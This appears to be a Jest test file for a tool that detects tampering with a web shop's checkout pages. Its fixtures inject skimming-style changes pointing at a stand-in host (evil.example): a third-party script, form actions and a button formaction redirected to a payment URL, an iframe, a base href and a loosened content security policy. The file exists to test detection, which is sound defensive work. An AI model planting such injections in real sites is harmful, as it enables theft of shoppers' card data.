import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { changesOf } from './compared.ts';
import { type Shop, type ShopChange, startShop } from './shop.ts';

// The same shop is compared by both functions: as text, and in a browser.

let shop: Shop;

beforeAll(async () => {
  shop = await startShop();
});

afterEach(() => shop.change({}));

afterAll(() => shop.stop());

const onCheckout = (edit: (text: string) => string): ShopChange => ({ files: { '/checkout/': edit } });
const inHead = (html: string) => onCheckout((text) => text.replace('</head>', `${html}</head>`));

type Case = readonly [
  name: string,
  change: ShopChange,
  seen: readonly string[],
  onlyByBrowsers?: readonly string[],
];

/** The browser is shown the first page only. */
const isOfCheckout = (change: string) => change.startsWith('/checkout/ ');

const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;

const cases: readonly Case[] = [
  [
    'an inline script that was put in',
    inHead('<script>skim()</script>'),
    ['/checkout/ page-bytes /checkout/', `/checkout/ inline-script-added ${hash('skim()')}`],
  ],
  [
    'a script of its own with other bytes',
    { files: { '/assets/js/cart.js': (text) => `${text}\nskim();` } },
    ['/checkout/ script-bytes /assets/js/cart.js', '/checkout/done/ script-bytes /assets/js/cart.js'],
  ],
  [
    'a script of a third party',
    inHead('<script src="https://evil.example/skim.js?shop=1"></script>'),
    ['/checkout/ page-bytes /checkout/', '/checkout/ script-added https://evil.example'],
    ['/checkout/ script-loaded https://evil.example'],
  ],
  [
    'a form that leads elsewhere',
    onCheckout((text) => text.replace('action="/api/session"', 'action="https://evil.example/pay"')),
    [
      '/checkout/ page-bytes /checkout/',
      '/checkout/ form-added https://evil.example',
      '/checkout/ form-removed /api/session',
    ],
  ],
  [
    'a button that sends the form elsewhere',
    onCheckout((text) => text.replace('type="submit"', 'type="submit" formaction="//evil.example/pay"')),
    ['/checkout/ page-bytes /checkout/', '/checkout/ form-added http://evil.example'],
  ],
  [
    'an event handler',
    onCheckout((text) => text.replace('<form', '<form onsubmit="skim()"')),
    ['/checkout/ page-bytes /checkout/', '/checkout/ handler-added onsubmit'],
  ],
  [
    'a frame',
    onCheckout((text) => text.replace('</main>', '<iframe src="https://evil.example/card"></iframe></main>')),
    ['/checkout/ page-bytes /checkout/', '/checkout/ frame-added https://evil.example'],
  ],
  [
    'another base for the addresses of the page',
    inHead('<base href="https://evil.example/">'),
    ['/checkout/ page-bytes /checkout/', '/checkout/ base-added https://evil.example'],
  ],
  [
    'a page that leads away by itself',
    inHead('<meta http-equiv="Refresh" content="600; url=https://evil.example/">'),
    ['/checkout/ page-bytes /checkout/', '/checkout/ refresh-added 600;'],
  ],
  [
    'a text that changed and runs nothing',
    onCheckout((text) => text.replace('Your order', 'Your orders')),
    ['/checkout/ page-bytes /checkout/'],
  ],
  [
    'a header that is gone',
    { headers: { 'x-frame-options': undefined } },
    ['/checkout/ header-missing x-frame-options', '/checkout/done/ header-missing x-frame-options'],
  ],
  [
    'a policy that allows more',
    { headers: { 'content-security-policy': "script-src * 'unsafe-inline'" } },
    [
      '/checkout/ header-changed content-security-policy',
      '/checkout/done/ header-changed content-security-policy',
    ],
  ],
  [
    'a header that loads code',
    { headers: { link: '</x.js>; rel=modulepreload' } },
    ['/checkout/ header-added link', '/checkout/done/ header-added link'],
    ['/checkout/ script-loaded /x.js', '/checkout/done/ script-loaded /x.js'],
  ],
  ['another status', { status: 404 }, ['/checkout/ status 404', '/checkout/done/ status 404']],
];

/** From the developer guides of CloudFront and S3: the headers that they add to what they answer. */
const addedOnTheWay = {
  'accept-ranges': 'bytes',
  age: '31',
  'alt-svc': 'h3=":443"; ma=86400',
  etag: '"6f5902ac237024bdd0c176cb93063dc4"',
  'last-modified': 'Sun, 22 Nov 2026 07:00:00 GMT',
  server: 'CloudFront',
  vary: 'Accept-Encoding',
  via: '1.1 0123456789abcdef.cloudfront.net (CloudFront)',
  'x-amz-cf-id': 'K0oXcYzvP4qz0K6iUqUuY7sWlJ3M0mQ1bA==',
  'x-amz-cf-pop': 'DUB56-P1',
  'x-amz-server-side-encryption': 'AES256',
  'x-amz-version-id': 'null',
  'x-cache': 'Miss from cloudfront',
};

describe.each(['html', 'browser'] as const)('by the engine %s', (engine) => {
  test('a shop as it was deployed has no difference', async () => {
    expect(await changesOf(shop, engine)).toEqual([]);
  }, 30_000);

  test('what CloudFront and S3 add to an answer is no difference', async () => {
    shop.change({ headers: addedOnTheWay });
    expect(await changesOf(shop, engine)).toEqual([]);
  }, 30_000);

  test.each(cases)(
    'notices %s',
    async (_, change, seen, onlyByBrowsers = []) => {
      shop.change(change);
      const expected = engine === 'html' ? seen : [...seen, ...onlyByBrowsers].filter(isOfCheckout);
      expect([...(await changesOf(shop, engine))].sort()).toEqual([...expected].sort());
    },
    30_000,
  );
});
